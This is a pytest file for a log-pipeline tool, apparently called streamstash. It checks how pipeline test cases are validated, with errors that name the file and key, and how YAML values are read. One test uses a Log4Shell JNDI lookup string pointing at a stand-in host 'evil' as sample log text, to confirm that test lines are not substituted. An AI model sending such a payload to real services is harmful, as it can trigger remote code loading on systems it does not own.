"""Test cases are settings like the rest of the pipeline: validated, with errors that name the file and the key."""

from __future__ import annotations

from pathlib import Path

import pytest

from streamstash.config import ConfigError, parse_pipeline
from streamstash.pipetest.cases import load_case_file


def test_errors_in_the_tests_section_name_the_file_and_the_key() -> None:
    text = "tests:\n  - name: typo\n    lines: [a]\n    expected: {documents: []}\n"
    with pytest.raises(ConfigError) as caught:
        parse_pipeline(text, "pipeline.yml", env={})
    message = str(caught.value)
    assert message.startswith("pipeline.yml: invalid pipeline")
    assert "tests.cases.0.expected: unknown key" in message


def test_errors_in_a_case_file_name_the_file_and_the_key(tmp_path: Path) -> None:
    path = tmp_path / "cases.yml"
    path.write_text("- name: one\n  lines: [a]\n- name: two\n  lines: {not: a list}\n", encoding="utf-8")
    with pytest.raises(ConfigError) as caught:
        load_case_file(path)
    message = str(caught.value)
    assert message.startswith(f"{path}: invalid test cases")
    assert "cases.1.lines:" in message


def test_a_case_file_may_hold_a_tests_section_cut_out_of_a_pipeline(tmp_path: Path) -> None:
    path = tmp_path / "cases.yml"
    path.write_text("tests:\n  match: subset\n  cases:\n    - {name: one, lines: [a]}\n", encoding="utf-8")
    tests = load_case_file(path)
    assert tests.match == "subset"
    assert [case.name for case in tests.cases] == ["one"]


def test_a_case_file_that_is_not_yaml_is_an_error(tmp_path: Path) -> None:
    path = tmp_path / "cases.yml"
    path.write_text("- name: [unclosed\n", encoding="utf-8")
    with pytest.raises(ConfigError, match="not valid YAML"):
        load_case_file(path)


def test_cases_are_taken_literally_while_the_rest_is_substituted() -> None:
    text = (
        "outputs:\n  elasticsearch:\n    index: ${INDEX:-logs}\n"
        "tests:\n  - name: log4shell\n    lines: ['GET /${jndi:ldap://evil/a}']\n"
    )
    config = parse_pipeline(text, "pipeline.yml", env={})
    assert config.tests.cases[0].lines == ["GET /${jndi:ldap://evil/a}"]
    assert config.outputs.elasticsearch.index == "logs"


def test_unquoted_times_become_timestamps_and_references_nest() -> None:
    text = """
tests:
  - name: one
    lines: [a]
    received_at: 2026-11-21 10:00:00
    add_fields: {"[host][name]": web-1}
    expect:
      documents:
        - {"@timestamp": 2015-01-04T05:13:42Z, "[http][status]": 200, day: 2015-01-04}
"""
    case = parse_pipeline(text, "pipeline.yml", env={}).tests.cases[0]
    assert case.received_at == "2026-11-21T10:00:00.000Z"
    assert case.add_fields == {"host": {"name": "web-1"}}
    assert case.expect.documents == [
        {"@timestamp": "2015-01-04T05:13:42.000Z", "http": {"status": 200}, "day": "2015-01-04"}
    ]


def test_events_may_be_given_as_json_text() -> None:
    text = 'tests:\n  - name: one\n    events: [\'{"message": "x", "[a][b]": 1}\']\n'
    case = parse_pipeline(text, "pipeline.yml", env={}).tests.cases[0]
    assert case.events == [{"message": "x", "a": {"b": 1}}]
    with pytest.raises(ConfigError, match=r"tests\.cases\.0\.events: .*not a JSON object"):
        parse_pipeline("tests:\n  - name: one\n    events: ['{nope']\n", "pipeline.yml", env={})


@pytest.mark.parametrize(
    ("case", "error"),
    [
        ("{name: one}", "needs `lines` or `events`"),
        ("{name: one, lines: [a], events: [{message: a}]}", "`lines` or `events`, not both"),
        ("{name: one, lines: [a], received_at: yesterday}", "not an ISO 8601 time"),
        ("{name: one, lines: [a], match: most}", "tests.cases.0.match"),
        ("{name: one, lines: [a], expect: {dropped: -1}}", "tests.cases.0.expect.dropped"),
    ],
)
def test_invalid_cases_are_refused(case: str, error: str) -> None:
    with pytest.raises(ConfigError) as caught:
        parse_pipeline(f"tests:\n  - {case}\n", "pipeline.yml", env={})
    assert error in str(caught.value)


def test_case_names_are_unique() -> None:
    with pytest.raises(ConfigError, match="two cases are named 'one'"):
        parse_pipeline("tests:\n  - {name: one, lines: [a]}\n  - {name: one, lines: [b]}\n", "p.yml", env={})


def test_unquoted_numbers_and_dates_are_lines_as_written_booleans_must_be_quoted() -> None:
    text = "tests:\n  - name: one\n    lines: [404, 2026-11-21, single]\n"
    case = parse_pipeline(text, "pipeline.yml", env={}).tests.cases[0]
    assert case.lines == ["404", "2026-11-21", "single"]
    assert parse_pipeline("tests:\n  - {name: one, lines: one line}\n", "p.yml", env={}).tests.cases[0].lines == [
        "one line"
    ]
    for value, read_as in (("yes", "True"), ("1.50", "1.5"), ("2026-11-21T10:00:00Z", "datetime")):
        with pytest.raises(ConfigError, match=rf"tests\.cases\.0\.lines: .*line 1 is read by YAML as {read_as}"):
            parse_pipeline(f"tests:\n  - {{name: one, lines: [a, {value}]}}\n", "pipeline.yml", env={})
